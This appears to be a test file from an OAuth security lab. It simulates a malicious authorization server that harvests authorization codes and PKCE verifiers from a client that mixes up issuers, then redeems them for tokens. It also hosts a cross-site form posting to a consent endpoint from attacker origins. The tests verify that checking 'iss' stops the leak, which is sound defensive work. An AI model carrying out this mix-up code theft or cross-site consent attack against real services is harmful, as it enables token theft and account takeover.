import { expect, test } from 'vitest';
import { ask, jsonBody, logIn, outcomeOf, rehearse } from '../../../../tests/rehearsal.ts';
import { createRelyingParty } from '../../actors/client/relying-party.ts';
import type { RelyingParty } from '../../actors/client/relying-party.ts';
import { header } from '../../http/message.ts';
import { EVIL, EVIL_SITE, TAKEN_OVER } from '../../world/parties.ts';

type Cast = ReturnType<typeof rehearse>;

/** The phone app, as it is registered at the attacker's server as well. */
function atEvilIssuer({ send, world }: Cast): RelyingParty {
  return createRelyingParty({
    party: 'phone',
    clientId: 'ledger-phone',
    redirectUri: 'test.lab.ledger:/callback',
    scope: 'openid profile invoice_read',
    issuer: EVIL,
    keys: [],
    send,
    world,
    memory: world.logins.phone,
  });
}

test('it looks like any authorization server, and keeps all that comes', async () => {
  const cast = rehearse();
  const metadata = jsonBody(await ask(cast, { url: `${EVIL}/.well-known/oauth-authorization-server` }));
  expect(metadata).toMatchObject({ issuer: EVIL, authorization_endpoint: `${EVIL}/authorize`, token_endpoint: `${EVIL}/token` });
  expect((await atEvilIssuer(cast).discover()).refused).toBeUndefined();
  expect(cast.attacker.received()).toHaveLength(2);
});

test('a client that mixes the two servers up takes the code of the honest one to the other', async () => {
  const cast = rehearse({ off: ['rp.issuer-response'] });
  const client = atEvilIssuer(cast);
  await client.discover();
  await logIn(cast, client.authorizationRequest());
  expect((await client.redeem()).refused).toBe('invalid_grant');
  const leaked = new URLSearchParams(cast.attacker.received().at(-1)?.body);
  const [code, verifier] = [leaked.get('code') ?? '', leaked.get('code_verifier') ?? ''];
  const stolen = await cast.attacker.redeem(code, { clientId: 'ledger-phone', redirectUri: 'test.lab.ledger:/callback', verifier });
  expect(stolen.tokens?.accessToken).toBeDefined();
});

test('a client that looks at iss does not', async () => {
  const cast = rehearse();
  const client = atEvilIssuer(cast);
  await client.discover();
  await logIn(cast, client.authorizationRequest());
  expect(outcomeOf(cast, 'rp.issuer-response')).toBe('failed');
  expect((await client.redeem()).refused).toBe('rp.issuer-response');
  expect(cast.attacker.received().some(({ body }) => body.includes('code='))).toBe(false);
});

test.each([
  [EVIL_SITE, undefined],
  [EVIL, '__Host-session'],
  [TAKEN_OVER, '__Host-session'],
])('a form at %s brings the cookie %s', async (origin, cookie) => {
  const cast = rehearse();
  await logIn(cast, cast.app.authorizationRequest());
  cast.attacker.host(`${origin}/win`, () => ({
    status: 200,
    headers: [['Content-Type', 'text/html']],
    body: '<form method="post" action="https://as.lab.test/consent"><button>Win</button></form>',
  }));
  await cast.browser.navigate(`${origin}/win`);
  await cast.browser.submit({});
  const sent = cast.world.trace().exchanges.at(-1);
  expect(header(sent?.request ?? { headers: [] }, 'cookie')?.split('=')[0]).toBe(cookie);
  expect(cast.attacker.received().at(-1)?.url).toBe(`${origin}/win`);
});
